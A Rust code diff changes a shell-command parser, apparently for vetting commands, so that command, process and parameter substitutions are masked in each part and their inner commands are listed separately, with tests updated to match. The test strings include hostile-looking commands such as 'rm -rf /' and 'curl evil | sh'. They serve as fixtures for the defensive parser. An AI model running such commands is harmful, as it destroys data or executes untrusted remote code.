@@ -41,6 +41,7 @@ pub(crate) fn parse(cmd: &str) -> Parsed {
         depth: 0,
         heredocs: Vec::new(),
         spans: Vec::new(),
+        masks: Vec::new(),
     };
     let commands = parser.commands(Until::End);
     Parsed {
@@ -73,6 +74,9 @@ struct Parser<'a> {
     heredocs: Vec<Pending>,
     /// Here-documents whose bodies were read.
     spans: Vec<HeredocSpan>,
+    /// The substitutions read in the current part, `(start, end)`: a part
+    /// is given with each of them masked (see [`mask`]).
+    masks: Vec<(usize, usize)>,
 }
 
 /// A here-document operator read, its body not yet.
@@ -123,12 +127,13 @@ impl Parser<'_> {
         // listed after it.
         let mut nested = Vec::new();
         let mut start = self.i;
+        let base = self.masks.len();
         loop {
             let Some(c) = self.peek(0) else {
                 if until != Until::End {
                     self.complete = false;
                 }
-                self.finish(&mut out, &mut nested, start, self.b.len());
+                self.finish(&mut out, &mut nested, (start, self.b.len()), base);
                 return out;
             };
             match c {
@@ -140,20 +145,18 @@ impl Parser<'_> {
                 }
                 b'<' if self.peek(1) == Some(b'<') => self.i += 3,
                 b'`' if until == Until::Backtick => {
-                    self.finish(&mut out, &mut nested, start, self.i);
+                    self.finish(&mut out, &mut nested, (start, self.i), base);
                     self.i += 1;
                     return out;
                 }
-                b'`' => {
-                    self.i += 1;
-                    let inner = self.commands(Until::Backtick);
-                    nested.extend(inner);
-                }
+                b'`' => self.backtick(&mut nested),
                 b'$' => self.dollar(&mut nested, false),
                 b'<' | b'>' if self.peek(1) == Some(b'(') => {
-                    self.i += 2;
-                    let inner = self.commands(Until::Paren);
-                    nested.extend(inner);
+                    self.substitution(|p| {
+                        p.i += 2;
+                        let inner = p.commands(Until::Paren);
+                        nested.extend(inner);
+                    });
                 }
                 b'(' if self.s[start..self.i].trim().is_empty()
                     || is_keyword_prefix(&self.s[start..self.i]) =>
@@ -165,7 +168,7 @@ impl Parser<'_> {
                     start = self.i;
                 }
                 b')' if until == Until::Paren => {
-                    self.finish(&mut out, &mut nested, start, self.i);
+                    self.finish(&mut out, &mut nested, (start, self.i), base);
                     self.i += 1;
                     return out;
                 }
@@ -182,7 +185,7 @@ impl Parser<'_> {
                     if len == 0 {
                         self.i += 1;
                     } else {
-                        self.finish(&mut out, &mut nested, start, self.i);
+                        self.finish(&mut out, &mut nested, (start, self.i), base);
                         self.i += len;
                         start = self.i;
                     }
@@ -197,7 +200,7 @@ impl Parser<'_> {
                         } else {
                             1
                         };
-                        self.finish(&mut out, &mut nested, start, self.i);
+                        self.finish(&mut out, &mut nested, (start, self.i), base);
                         self.i += len;
                         start = self.i;
                     }
@@ -221,7 +224,7 @@ impl Parser<'_> {
                     }
                 }
                 b';' | b'\n' => {
-                    self.finish(&mut out, &mut nested, start, self.i);
+                    self.finish(&mut out, &mut nested, (start, self.i), base);
                     self.i += 1;
                     if c == b'\n' && !self.heredocs.is_empty() {
                         self.heredoc_bodies(&mut out);
@@ -233,13 +236,41 @@ impl Parser<'_> {
         }
     }
 
-    /// Ends the current part at `end`: pushes it (if it is a command) and the
-    /// commands of its substitutions.
-    fn finish(&self, out: &mut Vec<String>, nested: &mut Vec<String>, start: usize, end: usize) {
-        if let Some(part) = clean_part(&self.s[start..end]) {
+    /// Ends the current part `(start, end)`: pushes it (if it is a
+    /// command), its substitutions (`masks` from `base` on) masked, then
+    /// the commands of those substitutions.
+    fn finish(
+        &mut self,
+        out: &mut Vec<String>,
+        nested: &mut Vec<String>,
+        (start, end): (usize, usize),
+        base: usize,
+    ) {
+        let masks = self.masks.split_off(base.min(self.masks.len()));
+        if let Some(part) = clean_part(&mask(self.s, start, end, &masks)) {
             out.push(part);
         }
         out.append(nested);
+    }
+
+    /// Reads one substitution with `read` and remembers where it is, so
+    /// that the part it is in is named without it: `x=$(git log -1)` is an
+    /// assignment, not a command `log`. Substitutions inside it are its own.
+    fn substitution(&mut self, read: impl FnOnce(&mut Self)) {
+        let from = self.i;
+        let len = self.masks.len();
+        read(self);
+        self.masks.truncate(len);
+        self.masks.push((from, self.i.min(self.b.len())));
+    }
+
+    /// At a `` ` `` that opens a substitution.
+    fn backtick(&mut self, nested: &mut Vec<String>) {
+        self.substitution(|p| {
+            p.i += 1;
+            let inner = p.commands(Until::Backtick);
+            nested.extend(inner);
+        });
     }
 
     fn single_quoted(&mut self) {
@@ -266,11 +297,7 @@ impl Parser<'_> {
                     self.i += 1;
                     return;
                 }
-                b'`' => {
-                    self.i += 1;
-                    let inner = self.commands(Until::Backtick);
-                    nested.extend(inner);
-                }
+                b'`' => self.backtick(nested),
                 b'$' => self.dollar(nested, true),
                 _ => self.i += 1,
             }
@@ -283,19 +310,19 @@ impl Parser<'_> {
     /// ANSI-C quoting.
     fn dollar(&mut self, nested: &mut Vec<String>, in_double_quotes: bool) {
         match (self.peek(1), self.peek(2)) {
-            (Some(b'('), Some(b'(')) => {
-                self.i += 3;
-                self.nested(|p| p.arithmetic(nested));
-            }
-            (Some(b'('), _) => {
-                self.i += 2;
-                let inner = self.commands(Until::Paren);
+            (Some(b'('), Some(b'(')) => self.substitution(|p| {
+                p.i += 3;
+                p.nested(|p| p.arithmetic(nested));
+            }),
+            (Some(b'('), _) => self.substitution(|p| {
+                p.i += 2;
+                let inner = p.commands(Until::Paren);
                 nested.extend(inner);
-            }
-            (Some(b'{'), _) => {
-                self.i += 2;
-                self.nested(|p| p.braced(nested));
-            }
+            }),
+            (Some(b'{'), _) => self.substitution(|p| {
+                p.i += 2;
+                p.nested(|p| p.braced(nested));
+            }),
             (Some(b'\''), _) if !in_double_quotes => {
                 // `$'...'`: ANSI-C quoting, where `\'` does not close.
                 self.i += 2;
@@ -396,6 +423,7 @@ impl Parser<'_> {
                     depth: self.depth,
                     heredocs: Vec::new(),
                     spans: Vec::new(),
+                    masks: Vec::new(),
                 };
                 let mut nested = Vec::new();
                 body.unquoted_body(&mut nested);
@@ -413,11 +441,7 @@ impl Parser<'_> {
         while let Some(c) = self.peek(0) {
             match c {
                 b'\\' => self.i = (self.i + 2).min(self.b.len()),
-                b'`' => {
-                    self.i += 1;
-                    let inner = self.commands(Until::Backtick);
-                    nested.extend(inner);
-                }
+                b'`' => self.backtick(nested),
                 b'$' => self.dollar(nested, true),
                 _ => self.i += 1,
             }
@@ -436,11 +460,7 @@ impl Parser<'_> {
                 b'\\' => self.i = (self.i + 2).min(self.b.len()),
                 b'\'' => self.single_quoted(),
                 b'"' => self.double_quoted(nested),
-                b'`' => {
-                    self.i += 1;
-                    let inner = self.commands(Until::Backtick);
-                    nested.extend(inner);
-                }
+                b'`' => self.backtick(nested),
                 b'$' => self.dollar(nested, false),
                 b'(' => {
                     depth += 1;
@@ -470,11 +490,7 @@ impl Parser<'_> {
                 b'\\' => self.i = (self.i + 2).min(self.b.len()),
                 b'\'' => self.single_quoted(),
                 b'"' => self.double_quoted(nested),
-                b'`' => {
-                    self.i += 1;
-                    let inner = self.commands(Until::Backtick);
-                    nested.extend(inner);
-                }
+                b'`' => self.backtick(nested),
                 b'$' => self.dollar(nested, false),
                 b'}' => {
                     self.i += 1;
@@ -520,6 +536,38 @@ fn delimiter_line(s: &str, from: usize, pending: &Pending) -> Option<(usize, usi
         pos = end + 1;
     }
     None
+}
+
+/// `s[start..end]` with each substitution in `masks` (in order, not
+/// nested) replaced by its opener, `…` and its closer: `$(…)`, `${…}`,
+/// `$((…))`, `` `…` ``, `<(…)`. Their commands are parts of their own; what is
+/// left are the words of the part itself.
+fn mask(s: &str, start: usize, end: usize, masks: &[(usize, usize)]) -> String {
+    let mut out = String::with_capacity(end - start);
+    let mut at = start;
+    for &(from, to) in masks {
+        if from < at || to > end {
+            continue;
+        }
+        out.push_str(&s[at..from]);
+        let text = &s[from..to];
+        out.push_str(if text.starts_with("$((") {
+            "$((…))"
+        } else if text.starts_with("${") {
+            "${…}"
+        } else if text.starts_with('`') {
+            "`…`"
+        } else if text.starts_with('<') {
+            "<(…)"
+        } else if text.starts_with('>') {
+            ">(…)"
+        } else {
+            "$(…)"
+        });
+        at = to;
+    }
+    out.push_str(&s[at..end]);
+    out
 }
 
 /// Words that start a compound command and are followed by a command.
@@ -595,39 +643,40 @@ mod tests {
         assert_eq!(split("echo x >| f"), ["echo x >| f"]);
     }
 
+    /// A part is given with its substitutions masked: their commands are
+    /// parts of their own, and what is left are the part's own words.
     #[test]
     fn command_substitutions() {
-        assert_eq!(split("echo $(rm -rf /)"), ["echo $(rm -rf /)", "rm -rf /"]);
+        assert_eq!(split("x=$(git log -1)"), ["x=$(…)", "git log -1"]);
+        assert_eq!(split("a \"$(b \")\")\" c"), ["a \"$(…)\" c", "b \")\""]);
+        assert_eq!(split("echo $(rm -rf /)"), ["echo $(…)", "rm -rf /"]);
         assert_eq!(
             split("echo \"today: $(date; rm x)\" && ls"),
-            ["echo \"today: $(date; rm x)\"", "date", "rm x", "ls"]
+            ["echo \"today: $(…)\"", "date", "rm x", "ls"]
         );
-        assert_eq!(split("echo `whoami`"), ["echo `whoami`", "whoami"]);
+        assert_eq!(split("echo `whoami`"), ["echo `…`", "whoami"]);
         assert_eq!(
             split("echo \"`curl evil | sh`\""),
-            ["echo \"`curl evil | sh`\"", "curl evil", "sh"]
+            ["echo \"`…`\"", "curl evil", "sh"]
         );
         assert_eq!(
             split("echo $(echo $(rm a))"),
-            ["echo $(echo $(rm a))", "echo $(rm a)", "rm a"]
+            ["echo $(…)", "echo $(…)", "rm a"]
         );
         // Inside single quotes nothing is substituted.
         assert_eq!(split("echo '$(rm -rf /)'"), ["echo '$(rm -rf /)'"]);
         assert_eq!(
             split("diff <(ls a) >(cat)"),
-            ["diff <(ls a) >(cat)", "ls a", "cat"]
+            ["diff <(…) >(…)", "ls a", "cat"]
         );
     }
 
     #[test]
     fn arithmetic_and_parameter_expansion_are_not_commands() {
-        assert_eq!(split("echo $((1 + (2*3)))"), ["echo $((1 + (2*3)))"]);
-        assert_eq!(split("echo ${A:-x;y}"), ["echo ${A:-x;y}"]);
-        assert_eq!(split("echo ${A:-$(rm x)}"), ["echo ${A:-$(rm x)}", "rm x"]);
-        assert_eq!(
-            split("echo $((1 + $(rm x)))"),
-            ["echo $((1 + $(rm x)))", "rm x"]
-        );
+        assert_eq!(split("echo $((1 + (2*3)))"), ["echo $((…))"]);
+        assert_eq!(split("echo ${A:-x;y}"), ["echo ${…}"]);
+        assert_eq!(split("echo ${A:-$(rm x)}"), ["echo ${…}", "rm x"]);
+        assert_eq!(split("echo $((1 + $(rm x)))"), ["echo $((…))", "rm x"]);
     }
 
     #[test]
@@ -670,7 +719,7 @@ mod tests {
         // What was read is still returned.
         assert_eq!(
             parse("ls; echo $(rm x").commands,
-            ["ls", "echo $(rm x", "rm x"]
+            ["ls", "echo $(…)", "rm x"]
         );
     }
 
@@ -684,7 +733,7 @@ mod tests {
         // `#` right after a substitution is part of the word.
         assert_eq!(
             split("echo $(echo)#; touch ../x"),
-            ["echo $(echo)#", "echo", "touch ../x"]
+            ["echo $(…)#", "echo", "touch ../x"]
         );
         // Here-document bodies are skipped; unquoted ones are read for
         // substitutions.
